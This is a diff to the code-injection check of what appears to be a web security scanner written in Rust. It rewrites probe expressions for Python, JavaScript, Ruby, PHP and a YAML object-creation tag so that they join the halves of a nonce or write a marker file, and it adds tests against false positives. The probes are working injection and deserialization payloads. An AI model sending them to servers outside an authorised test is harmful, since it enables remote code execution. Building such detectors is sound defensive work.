@@ -14,13 +14,14 @@ static META: Meta = Meta {
     docs: "\
 # What it does
 Puts expressions of Python, JavaScript, Ruby and PHP where a value is meant: bare, after closing a string, as a further statement, and as
-a tag of a YAML document that makes objects. The expressions turn a random word round, and leave a marker in the canary ground.
+a tag of a YAML document that makes objects. The expressions put the halves of a random word together, or leave a marker in the canary
+ground.
 
 # Why it matters
 Whoever writes the argument runs code with all the rights of the server.
 
 # What counts as proof
-The random word turned round in the answer, or a marker that appeared. Arithmetic proves nothing here: a calculator computes by
+The whole word in the answer, of which the request has only the halves, or a marker that appeared. Arithmetic proves nothing here: a calculator computes by
 contract, but no calculator imports modules, looks into classes or builds functions. A tool that says that it runs code does so by
 design.
 
@@ -88,32 +89,31 @@ impl Tongue {
     /// The expression; none if its effect cannot be seen.
     fn expression(self, nonce: &Nonce, marker: Option<&str>) -> Option<String> {
         let function = |body: String| format!("[].constructor.constructor(\"{body}\")()");
+        let (left, right) = nonce.as_str().split_at(6);
         Some(match self {
-            Self::Python => format!("__import__('codecs').encode('{nonce}','rot13')"),
-            Self::PythonMarker => format!("open('{}','w').close()", marker?),
-            Self::BarePython => {
-                let (left, right) = nonce.as_str().split_at(6);
-                format!("'{left}'.__class__.__name__.join(['{right}','{left}'])")
+            Self::Python => {
+                format!("__import__('operator').concat(*['{right}','{left}'][::-1])")
             }
-            Self::JavaScript => function(format!("return '{nonce}'.split('').reverse().join('')")),
+            Self::PythonMarker => format!("open('{}','w').close()", marker?),
+            Self::BarePython => format!("'{left}'.__class__.__name__.join(['{right}','{left}'])"),
+            Self::JavaScript => function(format!("return ['{right}','{left}'].reverse().join('')")),
             Self::JavaScriptMarker => function(format!(
                 "var p=process,m=p.mainModule;(m?m.require('fs'):p.getBuiltinModule('fs'))\
                  .writeFileSync('{}','')",
                 marker?
             )),
-            Self::Ruby => format!("Kernel.format('%s','{nonce}').reverse"),
-            Self::Php => format!("strrev('{nonce}')"),
+            Self::Ruby => format!("Kernel.Array(['{right}','{left}']).reverse.join"),
+            Self::Php => format!("implode(array_reverse(['{right}','{left}']))"),
         })
     }
 
-    /// What the expression amounts to, as far as it can be told from an echo.
+    /// What the expression amounts to, as far as it can be told from an echo. The halves of a word
+    /// change places: no tool that strips, turns round or encodes texts does that.
     fn value(self, nonce: &Nonce) -> String {
-        let word = nonce.as_str();
-        let turned = |c: char| char::from((c as u8 - b'a' + 13) % 26 + b'a');
+        let (left, right) = nonce.as_str().split_at(6);
         match self {
-            Self::Python => word.chars().map(turned).collect(),
-            Self::BarePython => format!("{}str{}", &word[6..], &word[..6]),
-            Self::JavaScript | Self::Ruby | Self::Php => word.chars().rev().collect(),
+            Self::Python | Self::JavaScript | Self::Ruby | Self::Php => nonce.to_string(),
+            Self::BarePython => format!("{right}str{left}"),
             Self::PythonMarker | Self::JavaScriptMarker => String::new(),
         }
     }
@@ -166,8 +166,9 @@ impl Attack for CodeInjection {
 /// Loaders of YAML that make any object a document asks for.
 fn yaml(aim: &Aim, brief: &Brief<'_>, set: usize) -> Option<Attempt> {
     let nonce = brief.nonce();
-    let role = Tongue::Python.value(&nonce);
-    let payload = format!("!!python/object/apply:codecs.encode ['{nonce}', 'rot13']");
+    let role = nonce.to_string();
+    let (left, right) = nonce.as_str().split_at(6);
+    let payload = format!("!!python/object/apply:operator.mod ['%s{right}', {left}]");
     let attempt = reach::attempt(aim, (set, "YAML that makes objects"), nonce, payload);
     attempt.map(|attempt| Attempt { role, ..attempt })
 }
@@ -234,6 +235,12 @@ mod tests {
             answers(&text(attempt).bytes().map(|byte| format!("%{byte:02x}")).collect::<String>())
         };
         assert!(room().fight(&CodeInjection, encoded).is_empty());
+        let turned = |attempt: &Attempt| answers(&text(attempt).chars().rev().collect::<String>());
+        assert!(room().fight(&CodeInjection, turned).is_empty());
+        let stripped = |attempt: &Attempt| {
+            answers(&text(attempt).replace(|c: char| !c.is_ascii_alphanumeric(), ""))
+        };
+        assert!(room().fight(&CodeInjection, stripped).is_empty());
     }
 
     #[test]
